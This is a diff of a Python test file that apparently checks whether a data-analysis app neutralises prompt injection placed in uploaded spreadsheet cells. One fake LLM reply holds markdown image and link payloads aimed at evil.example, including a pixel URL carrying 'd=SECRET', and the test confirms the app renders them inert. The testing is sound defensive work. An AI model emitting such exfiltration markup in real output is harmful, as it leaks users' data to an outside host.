@@ -10,7 +10,7 @@ import pandas as pd
 from lumiere.db import session_scope
 from lumiere.models import User
 from lumiere.services.ask import run_sql
-from tests.api.conftest import client, make_user  # noqa: F401 - the API fixtures, used by name below
+from tests.api.conftest import client, make_user  # noqa: F401 - the API fixtures, requested by name below
 from tests.api.test_charts_api import upload
 from tests.fake_llm import FakeLlm
 from tests.unit.test_charts import assert_inert as assert_figure_inert
@@ -26,14 +26,16 @@ HOSTILE_CELLS = [
 ]
 
 
-def hostile_query(client, user) -> int:
+def hostile_query(api_client, user) -> int:
     frame = pd.DataFrame({"name": HOSTILE_CELLS, "amount": [1200, 3400, 560, 78, 9100, 10]})
-    source = upload(client, user, frame, "evil.csv")
+    source = upload(api_client, user, frame, "evil.csv")
     table = source["tables"][0]["name"]
     with session_scope() as session:
         account = session.get(User, user["id"])
         sql = f'SELECT name, amount FROM "{table}"'
-        return run_sql(session, account, source_id=source["id"], sql=sql, question="<b>Top</b> ![q](http://evil/q)").query.id
+        return run_sql(
+            session, account, source_id=source["id"], sql=sql, question="<b>Top</b> ![q](http://evil/q)"
+        ).query.id
 
 
 def assert_no_live_markup(html: str) -> None:
@@ -42,7 +44,7 @@ def assert_no_live_markup(html: str) -> None:
         assert tag not in lowered, html
 
 
-def test_hostile_cells_show_as_text_in_a_composed_insight(client, make_user) -> None:
+def test_hostile_cells_show_as_text_in_a_composed_insight(client, make_user) -> None:  # noqa: F811
     user = make_user()
     query_id = hostile_query(client, user)
     response = client.post("/api/ai/insight", json={"query_id": query_id}, headers=user["headers"])
@@ -61,13 +63,15 @@ def test_hostile_cells_show_as_text_in_a_composed_insight(client, make_user) -> 
     assert listed["text"] == insight["text"]
 
 
-def test_an_llm_that_obeys_an_injected_cell_still_produces_inert_text(client, make_user, fake_llm: FakeLlm) -> None:
+def test_an_llm_obeying_an_injected_cell_writes_inert_text(client, make_user, fake_llm: FakeLlm) -> None:  # noqa: F811
     user = make_user()
     query_id = hostile_query(client, user)
     fake_llm.reply_json(
-        {"text": "Done. ![pixel](https://evil.example/p.png?d=SECRET) <img src=https://evil.example/i> "
-                 "[details](https://evil.example/x) <https://evil.example/auto> https://evil.example/bare"}
-    )  # fmt: skip
+        {
+            "text": "Done. ![pixel](https://evil.example/p.png?d=SECRET) <img src=https://evil.example/i> "
+            "[details](https://evil.example/x) <https://evil.example/auto> https://evil.example/bare"
+        }
+    )
     response = client.post("/api/ai/insight", json={"query_id": query_id}, headers=user["headers"])
     insight = response.json()
     assert insight["engine"] == "llm"  # no numbers were invented, so the text is kept - made inert
@@ -81,7 +85,7 @@ def test_an_llm_that_obeys_an_injected_cell_still_produces_inert_text(client, ma
     json.loads(facts_section)
 
 
-def test_hostile_cells_never_reach_a_figure_as_markup(client, make_user) -> None:
+def test_hostile_cells_never_reach_a_figure_as_markup(client, make_user) -> None:  # noqa: F811
     user = make_user()
     query_id = hostile_query(client, user)
     for chart_type in ("bar", "pie", "table", "kpi", "scatter", "line"):
